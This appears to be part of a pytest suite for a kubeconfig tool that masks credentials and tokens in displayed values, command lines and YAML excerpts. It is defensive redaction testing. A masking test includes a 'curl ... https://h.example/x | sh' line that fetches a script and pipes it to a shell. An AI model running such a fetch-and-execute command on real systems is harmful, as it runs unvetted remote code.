    (lambda text: shown.host_of("p.example", text), "http://p.example/?u=me@other", "p.example"),
    (shown.command, "/bin/sh -c curl hunter2/x/y", "/bin/sh ***"),
    (shown.key, "insecure-skip-tls-verfiy", "insecure-skip-tls-verfiy"),
    (shown.key, "hunter2", "***"),
    (shown.key, "token hunter", "***"),
    (shown.flag, "--client-secert=hunter2", "--client-secert"),
    (shown.flag, "--hunter2", "--***"),
    (shown.plain, UUID, UUID),
    (shown.plain, "my-tenant.onmicrosoft.com", "my-tenant.onmicrosoft.com"),
    (shown.plain, "hunter2", "*** (7 characters)"),
    (lambda text: shown.known(text, ["Never", "Always"]), "never", "never"),
    (lambda text: shown.known(text, ["Never", "Always"]), "Alway", "Alway"),
    (lambda text: shown.known(text, ["Never", "Always"]), "hunter2", "*** (7 characters)"),
]  # fmt: skip


@pytest.mark.parametrize(("show", "text", "expected"), SHOWN)
def test_a_value_is_shown_for_what_it_should_be(show: Callable[[str], str], text: str, expected: str) -> None:
    assert show(text) == expected


#: Command lines, and what is shown of them; the words are parted by blanks.
LINES = [
    (f"kubelogin get-token --login spn --server-id {UUID} --client-secret hunter2", "hunter2"),
    ("kubelogin get-token --client-secret=hunter2 -lspn", "hunter2"),
    ("kubelogin get-token --client-secret= hunter2", "hunter2"),
    ("kubelogin get-token --client-secert=hunter2 --pasword hunter2", "hunter2"),
    ("other get -p hunter2 -phunter2 --pat hunter2 --anything hunter2 hunter2", "hunter2"),
    ("aws eks get-token --cluster-name prod1 --region eu-west-1", ""),
    ("curl https://h.example/x?sig=hunter2 --header hunter2", "hunter2"),
    (f"doctl kubernetes cluster kubeconfig exec-credential --version=v1beta1 --context=default {UUID}", ""),
]  # fmt: skip


@pytest.mark.parametrize(("line", "secret"), LINES)
def test_a_command_line_is_shown_word_by_word(line: str, secret: str) -> None:
    command, *words = line.split()
    told = shown_words(command, words)
    assert len(told) == len(words)
    for word, text in zip(words, told, strict=True):
        assert (MASK in text) == bool(secret and secret in word)
        assert not secret or secret not in text


def test_the_first_word_of_a_variable_is_a_program_only_if_one_runs_it() -> None:
    assert command_line.variable("LD_PRELOAD", "hunter2 'x") == "*** 'x"
    assert command_line.variable("FOO", "\thunter2") == "\\t***"
    assert command_line.variable("GIT_SSH_COMMAND", "hunter2 x") == "hunter2 x"


def test_a_script_is_shown_without_its_secrets() -> None:
    script = "curl -H 'Authorization: Basic hunter2' https://h.example/x | sh"
    assert shown_words("/bin/bash", ["-c", script]) == ["-c", "curl -H *** Basic *** https://h.example/x *** sh"]
    assert shown_words("kubelogin", ["-c", script]) == ["-c", "***"]


def excerpt(text: str) -> str:
    source = Source(text.encode())
    try:
        document = parse_source(source)
    except Refused:
        document = None
    lines = [source.span_of_line(number + 1) for number in range(text.count("\n"))]
    return "\n".join(Excerpts(text, document).line(line) for line in lines)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("current-context: x  # that one\n", "current-context: x  # that one"),
        ("current-context: x  # token hunter\n", "current-context: x  # ***"),
        ("kind: Config  # für 1.29 am 2024-01-02, übrigens\n", "kind: Config  # für 1.29 am 2024-01-02, übrigens"),
        ("kind: Config  # für 12345 am Sommer2024\n", "kind: Config  # ***"),
        ("# kubeconv: ignore[KC301]\nkind: Config\n", "# kubeconv: ignore[KC301]\nkind: Config"),
        ("# kubeconv: ignore[KC3, unused-user]\nkind: Config\n", "# kubeconv: ignore[KC3, unused-user]\nkind: Config"),
        ("# kubeconv: ignore[KC3, AB12D54B2658E3E0CA922391932B4D76]\nkind: Config\n", "# ***\nkind: Config"),
        ("# kubeconv: ignore[hunter2]\nkind: Config\n", "# ***\nkind: Config"),
        ("# kubeconv: ignore\nkind: Config\n", "# kubeconv: ignore\nkind: Config"),
        ("users: hunter2\n", "users: ***"),
        # A line that somebody made a comment, by what its field holds.
        ("# - name: old-prod\n#   server: https://10.0.0.1:6443\nkind: Config\n",
         "# - name: old-prod\n#   server: https://10.0.0.1:6443\nkind: Config"),
        ("# server: https://u:horse@h.example\n# name: hunter2\n# token: horse\n", "# ***\n# ***\n# ***"),
        ("# command: horse\n# admin: horse\n# user: my horse\n", "# ***\n# ***\n# ***"),
        ("kind: Config  # TODO: drop it in eu-west-1 after v0.170.0 (2026-01), see --raw\n",
         "kind: Config  # TODO: drop it in eu-west-1 after v0.170.0 (2026-01), see --raw"),
        ("kind: Config  # 2024-01-31: see (https://h.example/x).\n", "kind: Config  # 2024-01-31: see (https://h.example/x)."),
        ("kind: Config  # note: horse\n", "kind: Config  # ***"),
        ("kind: Config  # was mauve-horse-battery-tulip\n", "kind: Config  # ***"),
        ("kind: Config  # state-of-the-art gke-gcloud-auth-plugin\n",
         "kind: Config  # state-of-the-art gke-gcloud-auth-plugin"),
        ("users: [{user: {exec: {args: [login, mauve-horse-battery-tulip]}}}]\n",
         "users: [{user: {exec: {args: [login, ***]}}}]"),
        ("kind: Config  # TODO: password: horse\n", "kind: Config  # ***"),
        ("users: {hunter2: hunter2}\n", "users: {***: ***}"),
        ("users: [{user: {exec: {args: [passphrase, ':', horse, --password, =, horse]}}}]\n",
         "users: [{user: {exec: {args: [passphrase, ***, ***, --password, ***, ***]}}}]"),
        ("users: [{name: a, user: {token: [hunter2]}}]\n", "users: [{name: a, user: {token: [***]}}]"),
        ("users: [{name: a, user: {tokn: hunter2}}]\n", "users: [{name: a, user: {tokn: ***}}]"),
        ("users: [{name: a, user: &x {token: &y z}}]\n", "users: [{name: a, user: *** {token: *** ***}}]"),
        ("users:\n- name: a\n  user:\n    token: |\n      h\n      2\n",
         "users:\n- name: a\n  user:\n    token: |\n      ***\n      ***"),
        ("users:\n- user:\n    exec:\n      installHint: |\n        Get it\n        at https://h.example/x\n",
         "users:\n- user:\n    exec:\n      installHint: |\n        Get it\n        at https://h.example/x"),
        ("users:\n- user:\n    exec:\n      installHint: |\n        Get it\n        with hunter2\n",
         "users:\n- user:\n    exec:\n      installHint: |\n        ***\n        ***"),
        ("hunter2\n", "***"),
        ("users:\n  token: hunter2: hunter2\n", "users:\n  token: ***"),
        ("users: []\n---\ntoken: hunter2, hunter2\n", "users: []\n---\ntoken: ***, ***"),
        ("users: [{name: a, user: {exec: {env: [{name: A_B, value: hunter2}, {name: AWS_PROFILE, value: dev}]}}}]\n",
         "users: [{name: a, user: {exec: {env: [{name: A_B, value: ***}, {name: AWS_PROFILE, value: dev}]}}}]"),
        ("users: [{name: a, user: {exec: {env: [{Name: A_B, Value: hunter2}], args: hunter2}}}]\n",
         "users: [{name: a, user: {exec: {env: [{Name: ***, Value: ***}], args: ***}}}]"),
        ("users: [{name: a, user: {exec: {args: ['--client-secret=', hunter2, -p, hunter2]}}}]\n",
         "users: [{name: a, user: {exec: {args: ['--client-secret=', ***, -p, ***]}}}]"),
        (f"users: [{{name: a, user: {{tokn: {UUID}, as-uid: {UUID}, foo: {UUID}, clientId: {UUID}, foo2: 443}}}}]\n",
         f"users: [{{name: a, user: {{tokn: ***, as-uid: {UUID}, foo: ***, clientId: {UUID}, ***: 443}}}}]"),
        (f"users: [{{name: a, user: {{exec: {{env: [{{name: A_B, Value: {UUID}}}, {{name: MY_PW, value: {UUID}}}]}}}}}}]\n",
         "users: [{name: a, user: {exec: {env: [{name: A_B, Value: ***}, {name: MY_PW, value: ***}]}}}]"),
        (f"users: [{{name: a, user: {{exec: {{env: [{{name: APP_TENANT, value: {UUID}}}, {{name: X, value: 1}}]}}}}}}]\n",
         f"users: [{{name: a, user: {{exec: {{env: [{{name: APP_TENANT, value: {UUID}}}, {{name: X, value: 1}}]}}}}}}]"),
        (f"users: [{{name: a, user: {{exec: {{args: [--pasword, {UUID}, --tenant, {UUID}, -t, {UUID}, -x, {UUID}]}}}}}}]\n",
         f"users: [{{name: a, user: {{exec: {{args: [--pasword, ***, --tenant, {UUID}, -t, {UUID}, -x, ***]}}}}}}]"),
        ("users: [{user: {auth-provider: {config: {idp-issuer-url: 'https://h', client-id: 4k8f0j2m3n5p7q9r1s6t8v0w2x}}}}]\n",
         "users: [{user: {auth-provider: {config: {idp-issuer-url: 'https://h', client-id: 4k8f0j2m3n5p7q9r1s6t8v0w2x}}}}]"),
        ("users: [{user: {auth-provider: {config: {apiserver-id: a, client-id: 4k8f0j2m3n5p7q9r1s6t8v0w2x}}}}]\n",
         "users: [{user: {auth-provider: {config: {apiserver-id: a, client-id: ***}}}}]"),
        ("users: [{name: a, user: {auth-provider: {config: {token-key: '{.credential.access_token}', x: hunter2}}}}]\n",
         "users: [{name: a, user: {auth-provider: {config: {token-key: '{.credential.access_token}', x: ***}}}}]"),
    ],
)  # fmt: skip
def test_an_excerpt_shows_what_is_known_to_be_harmless(text: str, expected: str) -> None:
    assert excerpt(text) == expected


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_a_page_is_shown_as_its_lines_are(end: str) -> None:
    folder = Path(__file__).parents[1] / "fixtures" / "fuzz"
    texts = [path.read_text(errors="replace") for path in sorted(folder.rglob("*")) if path.is_file()]
    texts += [shape.text(4_000) for shape in HARD.values()]
    texts.append(
        "users: [{name: a, user: {exec: {args: [], env: [{}, {name: a, value: }], env: {}}}, x: {}}, [], [[]], {}]\n"
        * 2
    )
    texts.append(
        'users: [{name: a, user: {exec: {installHint: "one way\\nor the other"}}}, {name: !!str &b "b\\nc"}]\n'
    )
    # Written alike, but one is a mapping in a mapping, or its text has other lines.
    texts.append("users:\n- name: a\n  user:\n  exec:\n    env: x\n- name: a\n  user:\n    exec:\n    env: x\n")
    texts.append(
        "users:\n- user:\n    exec:\n      installHint: |\n        a\n        eyJhbGciOiJSUzI1NiJ9.e30.x\n      command: x\n"
        * 3
        + "- user:\n   exec:\n      installHint: |2\n        a\n      command: x\n" * 2
    )
    for text in texts:
        source = Source(text.replace("\r", "").replace("\n", end).encode())
        document = parse_tolerantly(source).kubeconfig.document
        spans = [source.span_of_line(number + 1) for number in range(source.text.count("\n") + 1)]
        lines = [Excerpts(source.text, document).line(span).replace("\n", "\\n") for span in spans]
        assert Excerpts(source.text, document).page(Span(0, len(source.text))).split(end) == lines


@pytest.mark.parametrize(
    "part", ["eyJ", "a.", "a/", "-", "=", "://a", "aB1", "-----BEGIN", "bearer ", "?sig=", "token=", "1-"]
)
def test_the_gate_takes_time_in_proportion(part: str) -> None:
    text = part * (300_000 // len(part))
    started = time.process_time()
    hidden(text)
    for show in (shown.name, shown.path, shown.url, shown.command, shown.key, shown.plain, shown.path_of, shown.flag):
        show(text)
    excerpt(f"users: ['{text}']\n")
    Excerpts(text, None).line(Span(0, len(text)))
    assert time.process_time() - started < 2


def test_the_closest_word_is_the_one_that_difflib_finds() -> None:
    known = ("client-secret", "client-id", "tenant-id", "token", "", "aaa")
    words = [
        f"{head}{tail}"
        for head in ("client-", "tenant", "tok", "", "zzz")
        for tail in ("secert", "id", "en", "aa", "é")
    ]
    for word in words:
        for cutoff in (0.5, 0.7, 0.8, 1.0):
            assert closest(word, known, cutoff) == "".join(difflib.get_close_matches(word, known, 1, cutoff))


def test_flags_that_nobody_knows_take_no_long_time() -> None:
    started = time.process_time()
    command_line.shown_arguments([f"--flag-{number}" for number in range(10_000)])
    assert time.process_time() - started < 2  # a fifth of a second where nothing else runs
